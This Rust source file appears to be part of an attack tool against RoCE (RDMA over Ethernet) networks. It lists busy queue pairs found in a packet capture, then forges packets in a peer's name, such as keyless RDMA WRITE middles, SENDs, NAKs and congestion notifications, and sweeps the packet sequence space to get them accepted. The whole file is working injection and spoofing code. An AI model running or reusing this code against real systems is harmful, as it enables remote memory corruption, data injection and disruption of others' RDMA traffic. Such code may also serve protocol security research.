//! Packets to connected queue pairs in their peers' names, from an attacker that knows the queue pair numbers alone.

use std::{collections::BTreeMap, io, net::IpAddr, path::Path, thread, time::Duration};

use roce_bth::{Aeth, Bth, Class, Header, ICRC_LEN, Msn, Opcode, Packet, Psn, Qpn, RKey, Reth, Syndrome};
use roce_pcap::{Capture, decode};

use crate::{attack::Sent, origin::Origin};

/// Byte that fills planted payloads.
pub const MARK: u8 = 0x5a;
/// PSNs between two packets of a sweep: a queue pair that takes packets 4096 ahead of the expected one takes one of them.
const STEP: u32 = 4096;
/// Packets sent at once, with a pause of a millisecond after them: what the socket buffer of a busy receiver holds.
const BURST: u32 = 32;

/// Connected queue pair that a capture has packets to.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct QueuePair {
    /// Address of the queue pair.
    pub local: IpAddr,
    /// Address of its peer.
    pub peer: IpAddr,
    /// Queue pair number.
    pub qpn: Qpn,
    /// Packets to it.
    pub packets: u64,
    /// Bytes of the longest payload, which is the path MTU where there is bulk data.
    pub longest: usize,
}

/// Lists the reliable queue pairs that a capture has packets to, the busiest first. The file may still be growing.
///
/// # Errors
/// When it can't be opened, or is no capture.
pub fn queue_pairs(capture: &Path) -> io::Result<Vec<QueuePair>> {
    let mut capture = Capture::open(capture).map_err(io::Error::other)?;
    let mut found: BTreeMap<(IpAddr, u32), QueuePair> = BTreeMap::new();
    // The last frame may be cut off.
    while let Some(Ok(frame)) = capture.next_frame() {
        let Ok(datagram) = decode(frame.link, frame.data) else {
            continue;
        };
        let Ok(packet) = Packet::parse(datagram.payload) else {
            continue;
        };
        let qpn = packet.header.bth.dest_qp;
        if qpn.value() <= Qpn::GSI.value() {
            continue;
        }
        let (local, peer) = (datagram.dst.ip(), datagram.src.ip());
        let known = found.entry((local, qpn.value())).or_insert(QueuePair {
            local,
            peer,
            qpn,
            packets: 0,
            longest: 0,
        });
        known.packets += 1;
        known.longest = known.longest.max(packet.payload.len());
    }
    let mut found: Vec<QueuePair> = found.into_values().collect();
    found.sort_by_key(|qp| std::cmp::Reverse(qp.packets));
    Ok(found)
}

/// Kind of planted packet.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Plant {
    /// Middle of a long RDMA WRITE, which needs no key.
    WriteMiddle,
    /// Middle of an RDMA WRITE with four bytes instead of an MTU's: 20 bytes in all.
    Short,
    /// Whole RDMA WRITE with an invalid key.
    WrongKey,
    /// Whole SEND.
    Send,
    /// Middle of an answer to an RDMA READ.
    ReadResponse,
    /// Negative acknowledgement.
    Nak,
    /// Acknowledgement.
    Acknowledge,
    /// Congestion notification.
    Notification,
}

impl Plant {
    fn header(self, qpn: Qpn, psn: Psn) -> Header {
        let opcode = match self {
            Self::WriteMiddle | Self::Short => Opcode::RcWriteMiddle,
            Self::WrongKey => Opcode::RcWriteOnly,
            Self::Send => Opcode::RcSendOnly,
            Self::ReadResponse => Opcode::RcReadResponseMiddle,
            Self::Nak | Self::Acknowledge => Opcode::RcAcknowledge,
            Self::Notification => Opcode::Cnp,
        };
        let mut header = Header::new(Bth::new(opcode, qpn, psn));
        header.bth.ack_req = opcode.info().class == Class::Write;
        header.reth = Some(Reth {
            va: 0x7f00_0000_1000,
            rkey: RKey(0x1234_5678),
            dma_len: 64,
        });
        header.aeth = Some(Aeth {
            syndrome: match self {
                Self::Nak => Syndrome::from_byte(0x62),
                _ => Syndrome::from_byte(0x1f),
            },
            msn: Msn::new(0),
        });
        header
    }

    const fn payload_len(self, mtu: usize) -> usize {
        match self {
            Self::WriteMiddle | Self::ReadResponse => mtu,
            Self::Short => 4,
            Self::WrongKey | Self::Send => 64,
            Self::Nak | Self::Acknowledge | Self::Notification => 0,
        }
    }
}

/// Sends a packet for every 4096 of the 2^24 PSNs to a queue pair, from `first` on.
///
/// # Errors
/// When an address is not allowed, or sending fails.
pub fn sweep(origin: &Origin, target: &QueuePair, plant: Plant, first: u32) -> io::Result<Sent> {
    let flow = origin.flow(target.local)?;
    let mut sent = Sent::default();
    for n in 0..(1 << 24) / STEP {
        let header = plant.header(target.qpn, Psn::new(first.wrapping_add(n * STEP)));
        let mut bytes = vec![0; header.wire_len()];
        header.emit(&mut bytes);
        bytes.resize(bytes.len() + plant.payload_len(target.longest), MARK);
        bytes.resize(bytes.len() + ICRC_LEN, 0);
        flow.seal(0, &mut bytes);
        match origin.send(target.local, 0, &bytes) {
            Ok(()) => {
                sent += Sent {
                    packets: 1,
                    bytes: bytes.len() as u64,
                }
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock || e.raw_os_error() == Some(libc::ENOBUFS) => {}
            Err(e) => return Err(e),
        }
        if n % BURST == 0 {
            thread::sleep(Duration::from_millis(1));
        }
    }
    Ok(sent)
}
